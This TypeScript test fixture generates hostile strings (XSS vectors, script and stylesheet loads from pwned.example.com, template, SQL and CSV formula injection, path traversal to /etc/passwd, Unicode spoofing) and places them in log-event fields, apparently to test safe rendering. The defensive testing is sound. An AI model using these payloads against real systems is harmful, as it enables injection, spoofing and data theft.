/** Five hundred texts that a page must never take for anything but text, and events that carry each of them in each of thirty fields. */

const act = 'window.__pwned=1';
/** Whatever comes of a payload carries this mark, in an attribute or as a name. */
const mark = 'data-pwned=1 class=pwned id=pwned';

const elements: readonly string[] = [
  `<script ${mark}>${act}</script>`, `<script src=//pwned.example.com/a.js ${mark}></script>`, `<img src=x ${mark} onerror=${act}>`, `<svg ${mark} onload=${act}></svg>`,
  `<svg ${mark}><script>${act}</script></svg>`, `<svg ${mark}><animate onbegin=${act} attributeName=x dur=1s></svg>`, `<svg ${mark}><foreignObject><body onload=${act}></foreignObject></svg>`,
  `<svg ${mark}><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${act}' /></svg>#x" /></svg>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>" ${mark}></iframe>`, `<iframe src="javascript:${act}" ${mark}></iframe>`, `<object data="javascript:${act}" ${mark}></object>`,
  `<embed src="javascript:${act}" ${mark}>`, `<a href="javascript:${act}" ${mark}>click</a>`, `<form action="javascript:${act}" ${mark}><input type=submit autofocus onfocus=${act}></form>`,
  `<details open ontoggle=${act} ${mark}>x</details>`, `<video ${mark}><source onerror=${act}></video>`, `<audio src=x onerror=${act} ${mark}>`, `<body onload=${act} ${mark}>`,
  `<marquee onstart=${act} ${mark}>x</marquee>`, `<math ${mark}><mtext><mglyph><style><img src=x onerror=${act}></style></mglyph></mtext></math>`,
  `<style ${mark}>*{display:none!important}</style>`, `<style ${mark}>@import '//pwned.example.com/a.css';</style>`, `<link rel=stylesheet href=//pwned.example.com/a.css ${mark}>`,
  `<link rel=prefetch href=//pwned.example.com/b ${mark}>`, `<base href=//pwned.example.com/ ${mark}>`, `<meta http-equiv=refresh content="0;url=//pwned.example.com/" ${mark}>`,
  `<template ${mark}><img src=x onerror=${act}></template>`, `<noscript ${mark}><img src=x onerror=${act}></noscript>`, `<dialog open ${mark}>x</dialog>`, `<p style="position:fixed;inset:0" ${mark}>x</p>`,
  `<table background="javascript:${act}" ${mark}><td>x</table>`, `<x-pwned ${mark} onclick=${act} tabindex=1 autofocus onfocus=${act}>x</x-pwned>`, `<button popovertarget=pwned ${mark}>x</button>`,
];

/** Ways out of where a careless page would put a text. */
const frames: readonly ((payload: string) => string)[] = [
  payload => payload, payload => `">${payload}`, payload => `'>${payload}`, payload => `</title>${payload}`, payload => `</script>${payload}`, payload => `</style>${payload}`,
  payload => `</textarea>${payload}`, payload => `--><!-- -->${payload}`, payload => `]]>${payload}`, payload => payload.toUpperCase().replaceAll('WINDOW.__PWNED', 'window.__pwned'),
  payload => payload.replaceAll(' ', '/'), payload => payload.replaceAll('<', '<\u0000').replaceAll('>', '\u0000>'),
];

const templates: readonly string[] = [
  `{{constructor.constructor('${act}')()}}`, `\${${act}}`, `<%= ${act} %>`, `#{${act}}`, `[[${act}]]`, `{%${act}%}`, `javascript:${act}`, `data:text/html,<script>${act}</script>`,
  `" onmouseover="${act}" x="`, `' autofocus onfocus='${act}' x='`, `\`-${act}-\``, `';${act};//`, `\\";${act};//`, `");${act};//`, `\u2028${act}\u2029`, `%3Cscript%3E${act}%3C/script%3E`,
  `&lt;script&gt;${act}&lt;/script&gt;`, `&#60;script&#62;${act}&#60;/script&#62;`, `\\u003cscript\\u003e${act}\\u003c/script\\u003e`, `expression(${act})`, 'url(//pwned.example.com/a)',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '$$typeof', '{"$$typeof":"Symbol(react.element)","type":"script"}', 'undefined', 'null', 'NaN', '[object Object]',
  '=HYPERLINK("https://pwned.example.com","x")', '+cmd|\' /C calc\'!A0', '@SUM(1)', '-2+3', "'; DROP TABLE log_event; --", "' OR 1=1 --", '%', '_', '*', '"', "'", '\\', '../../../etc/passwd', 'file:///etc/passwd',
];

const oddities: readonly string[] = [
  '\u202egpj.exe', 'user\u202e@moc.elpmaxe', '\u2066\u2067\u2068\u2069\u2069', '\u200e\u200f\u061c', '\u0000', '\u0007\u0008\u001b[31mred\u001b[0m', 'a\tb\nc\rd', '\u0085\u2028\u2029', '\u200b\u200c\u200d\u2060\ufeff',
  'ad\u00admin', '\ud800', '\udfff', 'a\ud83d', '\ude00b', '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67', '\u{e0001}\u{e0041}\u{e007f}', '\ufffe\uffff', '\u{1fffe}', '\u3164\u115f\u1160', `Z${'\u0351\u0352\u0353\u0354'.repeat(40)}`,
  'مرحبا <b>عالم</b>', 'שלום\u202a<i>', 'раураl.example.com', '\u{1d4d0}\u{1d4ed}\u{1d4f6}', '<', '>', '&', '&amp;', '&nbsp;', '<!--', '<![CDATA[', '<?xml version="1.0"?>', '\u2800', '\u00a0', '\u3000', ' ',
];

const long: readonly string[] = [`${'<b>'.repeat(6000)}`, 'x'.repeat(20_000), '\u202e'.repeat(2_000), `${elements[2] ?? ''}`.repeat(300), '🙂'.repeat(8_000), '\u0301'.repeat(4_000)];

/** Five hundred, all different; those of every kind come first. */
export function hostileStrings(count: number): readonly string[] {
  const framed = frames.flatMap((frame, at) => elements.map((payload, index) => frame(payload.replaceAll('__pwned=1', `__pwned=${String(at * 100 + index + 1)}`))));
  const kinds = [oddities, elements, templates, long, framed];
  const mixed = Array.from({ length: framed.length }, (_, index) => kinds.flatMap(kind => kind[index] ?? [])).flat();
  return [...new Set(mixed)].slice(0, count);
}

/** Thirty fields that a screen shows by themselves, in the tree or in the text; the last is the name of a field. */
export const hostileFields = 30;

type Text = (field: number) => string;

/** Without halves of pairs, which no UTF-8 can hold. */
export const wellFormed = (text: string): string => Buffer.from(text).toString();

/** Of a log id nothing is taken that cannot be written back: no control characters, no halves of pairs. */
const logId = (index: number, text: string): string => wellFormed(`9002026060112000000000000000000${String(index).padStart(6, '0')}${text.replace(/\p{Cc}/gu, '')}`.slice(0, 400));

const event = (index: number, text: Text): unknown => ({
  log_id: logId(index, text(0)), date: new Date(Date.UTC(2026, 5, 1, 12) + index * 1000).toISOString(),
  type: text(1), description: text(2), connection: text(3), connection_id: text(4), strategy: text(5), strategy_type: text(6), client_id: text(7), client_name: text(8), ip: text(9), user_agent: text(10),
  hostname: text(11), user_id: text(12), user_name: text(13), audience: text(14), scope: text(15), organization_id: text(16), organization_name: text(17),
  location_info: { country_code: text(18), country_name: text(19), city_name: text(20), time_zone: text(21) },
  auth0_client: { name: text(22), version: text(23) }, session_connection: text(24), tenant_name: text(25), environment_name: text(26),
  details: { request: { path: text(27), body: [text(28), { nested: [text(28)] }] }, [`named ${text(29)}`]: 1 },
});

/** One event a text, and each text once in each field. */
export function hostileEvents(texts: readonly string[]): readonly unknown[] {
  return texts.map((_, index) => event(index, field => texts[(index + field * 7) % texts.length] ?? ''));
}
